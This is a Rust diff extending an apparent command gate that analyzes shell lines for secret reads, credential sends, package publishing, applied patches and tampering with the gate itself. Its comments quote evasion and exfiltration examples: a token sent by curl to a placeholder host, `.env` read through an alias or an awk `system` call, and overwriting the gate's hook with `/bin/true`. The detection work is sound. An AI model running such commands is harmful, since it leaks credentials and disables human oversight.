@@ -60,6 +60,8 @@ pub struct Analysis {
     /// `npm pack`, `pnpm`/`yarn`/`bun publish`, with the directory operand
     /// or `.`): what would ship is checked for protected files.
     pub publishes: Vec<FileRef>,
+    /// Patch files the line applies (`git apply P`, `git am MBOX`).
+    pub patches: Vec<FileRef>,
     /// Stored credentials the line computes (a printer inside `$(…)`, a
     /// provider's token variable) and sends to a host that is not the
     /// credential's own service (`curl -H "… $(gh auth token)" https://x`),
@@ -359,6 +361,12 @@ fn push_write(out: &mut Analysis, st: &State, path: String, command: &str) {
     if full(out) {
         out.capped = true;
         return;
+    }
+    // `cp /bin/true "$(which keepmum-hook)"`: a target only known at run
+    // time that is the gate's own binary or configuration.
+    if (path.contains("$(") || path.contains('`')) && path.to_ascii_lowercase().contains("keepmum")
+    {
+        out.gate_changes.push(format!("{command} {path}"));
     }
     out.writes.push(FileRef {
         path,
@@ -1280,6 +1288,56 @@ fn simple_command_words(words: Vec<Word>, depth: usize, st: &mut State, out: &mu
             });
         }
     }
+    let module_tool = (INTERPRETERS.contains(&name.as_str())
+        && args.first().is_some_and(|a| a.text == "-m"))
+    .then(|| args.get(1).map(|m| (m.text.clone(), &args[2..])))
+    .flatten();
+    let packaged = match &module_tool {
+        Some((module, rest)) => packaged_dirs(module, rest),
+        None => packaged_dirs(&name, args),
+    };
+    if let Some((kind, dirs)) = packaged {
+        for dir in dirs.into_iter().take(8) {
+            if full(out) {
+                break;
+            }
+            out.publishes.push(FileRef {
+                path: expand_home(&dir, st),
+                dirs: st.dirs.clone(),
+                command: kind.to_string(),
+                ..FileRef::default()
+            });
+        }
+    }
+    if name == "history"
+        || (name == "fc"
+            && args
+                .iter()
+                .any(|a| a.text.starts_with('-') && a.text.contains(['l', 's'])))
+    {
+        // The shell's history is its history file (`$HISTFILE`).
+        let file = env
+            .iter()
+            .rev()
+            .find(|(k, _)| k == "HISTFILE")
+            .map_or("~/.bash_history".to_string(), |(_, v)| v.clone());
+        if !args
+            .iter()
+            .any(|a| matches!(a.text.as_str(), "-c" | "-d" | "-w"))
+        {
+            push_read(out, st, expand_home(&file, st), &name, false);
+        }
+        return;
+    }
+    if name == "alias" {
+        // `alias c='cat .env'; c`: the value runs when the alias is used.
+        for a in args.iter().take(16) {
+            if let Some((_, value)) = a.text.split_once('=') {
+                analyze_into(value, depth + 1, st, out);
+            }
+        }
+        return;
+    }
     match name.as_str() {
         "printenv" => {
             let named: Vec<&Word> = args.iter().filter(|a| !a.text.starts_with('-')).collect();
@@ -1389,6 +1447,7 @@ fn simple_command_words(words: Vec<Word>, depth: usize, st: &mut State, out: &mu
                 let t = a.text.as_str();
                 matches!(t, "-c" | "-e" | "--eval" | "-E" | "-p" | "--print")
                     || (n == "php" && matches!(t, "-r" | "-B" | "-R" | "-E"))
+                    || (matches!(n, "deno" | "bun") && t == "eval")
                     || (matches!(n, "perl" | "ruby")
                         && t.starts_with('-')
                         && !t.starts_with("--")
@@ -1536,6 +1595,7 @@ fn simple_command_words(words: Vec<Word>, depth: usize, st: &mut State, out: &mu
             }
         }
         n if READERS.contains(&n) => {
+            program_file_refs(n, args, depth, st, out);
             if n == "source" || n == "." {
                 if let Some(f) = args.first() {
                     push_read(out, st, expand_home(&f.text, st), n, f.glob);
@@ -1670,6 +1730,235 @@ fn simple_command_words(words: Vec<Word>, depth: usize, st: &mut State, out: &mu
             }
         }
         _ => {}
+    }
+}
+
+/// Files an awk or sed program names in its own text: awk's `getline <
+/// ".env"` and `system("cat .env")`, sed's `r FILE`/`R FILE` (read) and
+/// `w FILE` (write) commands and `e COMMAND` (run).
+fn program_file_refs(n: &str, args: &[Word], depth: usize, st: &mut State, out: &mut Analysis) {
+    let awk = matches!(n, "awk" | "gawk" | "mawk" | "nawk");
+    if !awk && n != "sed" {
+        return;
+    }
+    let mut programs: Vec<&str> = Vec::new();
+    let mut k = 0;
+    let mut from_file = false;
+    while let Some(a) = args.get(k) {
+        let t = a.text.as_str();
+        if (!awk && (t == "-e" || t == "--expression")) || (awk && t == "--source") {
+            if let Some(p) = args.get(k + 1) {
+                programs.push(&p.text);
+            }
+            k += 2;
+            continue;
+        }
+        if let Some(p) = t.strip_prefix("--expression=") {
+            programs.push(p);
+        }
+        from_file |= t == "-f" || t.starts_with("--file");
+        if !t.starts_with('-') {
+            if programs.is_empty() && !from_file {
+                programs.push(t);
+            }
+            break;
+        }
+        k += if awk && matches!(t, "-F" | "-v") {
+            2
+        } else {
+            1
+        };
+    }
+    for p in programs {
+        if awk {
+            for tok in p
+                .split(|c: char| c.is_whitespace() || "'\"`()[]{},;=+<>|&".contains(c))
+                .filter(|t| t.len() < 256 && (t.contains('.') || t.contains('/')))
+                .take(64)
+            {
+                push_read(out, st, expand_home(tok, st), n, false);
+            }
+            continue;
+        }
+        for cmd in p.split([';', '\n']).take(64) {
+            let mut c = cmd.trim_start();
+            // Skip an address: line numbers, `$`, `,`, `/regex/`.
+            loop {
+                let before = c.len();
+                c = c.trim_start_matches(|ch: char| ch.is_ascii_digit() || "$,!~ ".contains(ch));
+                if let Some(rest) = c.strip_prefix('/') {
+                    c = rest.split_once('/').map_or("", |(_, r)| r);
+                }
+                if c.len() == before {
+                    break;
+                }
+            }
+            let mut chars = c.chars();
+            let (Some(op), rest) = (chars.next(), chars.as_str()) else {
+                continue;
+            };
+            let arg = rest.trim();
+            if arg.is_empty() || !rest.starts_with([' ', '\t']) && op != 'e' {
+                continue;
+            }
+            match op {
+                'r' | 'R' => push_read(out, st, expand_home(arg, st), "sed", false),
+                'w' | 'W' => push_write(out, st, expand_home(arg, st), "sed"),
+                'e' => analyze_into(arg, depth + 1, st, out),
+                _ => {}
+            }
+        }
+    }
+}
+
+/// Packagers other than npm that ship a directory's files somewhere else
+/// (a registry, an image, a chart archive): the kind of packaging (the
+/// name [`check`](crate::check) knows its ignore rules by) and the
+/// directories shipped. `docker build [opts] CTX` sends CTX to the
+/// builder; `helm package CHART…`; `cargo publish`/`package` the current
+/// package (or `--manifest-path`'s); `poetry`/`flit`/`hatch`/`pdm publish`
+/// build and upload the current project.
+fn packaged_dirs(name: &str, args: &[Word]) -> Option<(&'static str, Vec<String>)> {
+    let first = args.first().map(|a| a.text.as_str());
+    let operands_after = |k: usize, valued: &[&str]| -> Vec<String> {
+        let mut out = Vec::new();
+        let mut skip = false;
+        for a in args.iter().skip(k) {
+            let t = a.text.as_str();
+            if skip {
+                skip = false;
+                continue;
+            }
+            if t.starts_with('-') {
+                skip = !t.contains('=') && valued.contains(&t);
+                continue;
+            }
+            out.push(t.to_string());
+        }
+        out
+    };
+    match (name, first) {
+        ("docker" | "podman" | "nerdctl" | "buildah", _) => {
+            // `docker build`, `docker buildx build`, `docker image build`,
+            // `buildah bud`.
+            let k = args.iter().take(3).position(|a| {
+                matches!(a.text.as_str(), "build" | "bud") && !a.text.starts_with('-')
+            })?;
+            if args[..k]
+                .iter()
+                .any(|a| !matches!(a.text.as_str(), "buildx" | "image" | "builder"))
+            {
+                return None;
+            }
+            let valued = [
+                "-t",
+                "--tag",
+                "-f",
+                "--file",
+                "--build-arg",
+                "--target",
+                "--platform",
+                "--label",
+                "--secret",
+                "--ssh",
+                "--cache-from",
+                "--cache-to",
+                "--network",
+                "--progress",
+                "-o",
+                "--output",
+                "--iidfile",
+                "--builder",
+                "--add-host",
+                "--build-context",
+                "--shm-size",
+                "-m",
+                "--memory",
+                "--ulimit",
+                "--annotation",
+                "--attest",
+                "--metadata-file",
+                "--provenance",
+                "--sbom",
+                "--cgroup-parent",
+                "--isolation",
+                "--cpu-shares",
+                "--cpuset-cpus",
+                "--security-opt",
+            ];
+            let ctx = operands_after(k + 1, &valued);
+            let dir = ctx.into_iter().next().unwrap_or_else(|| ".".to_string());
+            // A remote context (git URL, tarball URL, stdin) is not local.
+            if dir == "-" || dir.contains("://") || dir.starts_with("git@") {
+                return None;
+            }
+            Some(("docker build", vec![dir]))
+        }
+        ("helm", Some("package")) => {
+            let valued = [
+                "-d",
+                "--destination",
+                "--version",
+                "--app-version",
+                "--key",
+                "--keyring",
+                "--passphrase-file",
+            ];
+            let charts = operands_after(1, &valued);
+            (!charts.is_empty()).then_some(("helm package", charts))
+        }
+        ("cargo", Some("publish" | "package")) => {
+            let mut dir = ".".to_string();
+            if let Some(k) = args.iter().position(|a| a.text == "--manifest-path") {
+                if let Some(m) = args.get(k + 1) {
+                    dir = m.text.rsplit_once('/').map_or(".", |(d, _)| d).to_string();
+                }
+            }
+            if let Some(m) = args
+                .iter()
+                .find_map(|a| a.text.strip_prefix("--manifest-path="))
+            {
+                dir = m.rsplit_once('/').map_or(".", |(d, _)| d).to_string();
+            }
+            Some(("cargo publish", vec![dir]))
+        }
+        ("poetry" | "flit" | "hatch" | "pdm", Some("publish")) => {
+            Some(("python publish", vec![".".to_string()]))
+        }
+        // Archives built earlier and uploaded as they are: their entries
+        // are listed at check time.
+        ("twine", Some("upload")) | ("uv", Some("publish")) => {
+            let valued = [
+                "-r",
+                "--repository",
+                "--repository-url",
+                "-u",
+                "--username",
+                "-p",
+                "--password",
+                "-c",
+                "--comment",
+                "--config-file",
+                "--sign-with",
+                "-i",
+                "--identity",
+                "--publish-url",
+                "--token",
+                "--index",
+                "--trusted-publishing",
+            ];
+            let mut files = operands_after(1, &valued);
+            if files.is_empty() {
+                files.push("dist/*".to_string());
+            }
+            Some(("archive upload", files))
+        }
+        ("gem", Some("push")) => {
+            let valued = ["-k", "--key", "--host", "--otp", "-p", "--http-proxy"];
+            let files = operands_after(1, &valued);
+            (!files.is_empty()).then_some(("archive upload", files))
+        }
+        _ => None,
     }
 }
 
@@ -2230,6 +2519,47 @@ fn git(args: &[Word], env: &[(String, String)], st: &mut State, out: &mut Analys
         rest = words;
     }
     let rest = &rest[..];
+    if matches!(sub_name.as_str(), "apply" | "am") {
+        // `git apply PATCH…`, `git am MBOX…`: what the patches add and the
+        // files they change are checked like a patch tool call's. Only
+        // `--stat`/`--numstat`/`--summary`/`--check` without `--apply`
+        // leave the tree alone.
+        let looks_only = rest.iter().any(|a| {
+            matches!(
+                a.text.as_str(),
+                "--stat" | "--numstat" | "--summary" | "--check"
+            )
+        }) && !rest.iter().any(|a| a.text == "--apply");
+        if !looks_only {
+            let valued = [
+                "-p",
+                "-C",
+                "--directory",
+                "--exclude",
+                "--include",
+                "--whitespace",
+            ];
+            let mut skip = false;
+            for a in rest.iter().take(16) {
+                let t = a.text.as_str();
+                if skip {
+                    skip = false;
+                    continue;
+                }
+                if t.starts_with('-') {
+                    skip = valued.contains(&t);
+                    continue;
+                }
+                out.patches.push(FileRef {
+                    path: expand_home(t, st),
+                    dirs: commit.dirs.clone(),
+                    command: format!("git {sub_name}"),
+                    glob: a.glob,
+                    ..FileRef::default()
+                });
+            }
+        }
+    }
     let dynamic = sub_name.contains('$') || sub_name.contains('`') || sub.text.is_empty();
     // git takes any unambiguous prefix of a long option: `--no-veri` is
     // `--no-verify` (`--no-ve` could also be `--no-verbose`).
@@ -2457,6 +2787,7 @@ pub(crate) fn merge_into(out: &mut Analysis, other: Analysis) {
     out.credential_reads.extend(other.credential_reads);
     out.credential_sends.extend(other.credential_sends);
     out.publishes.extend(other.publishes);
+    out.patches.extend(other.patches);
     out.gate_changes.extend(other.gate_changes);
     out.obfuscated.extend(other.obfuscated);
     out.stages |= other.stages;
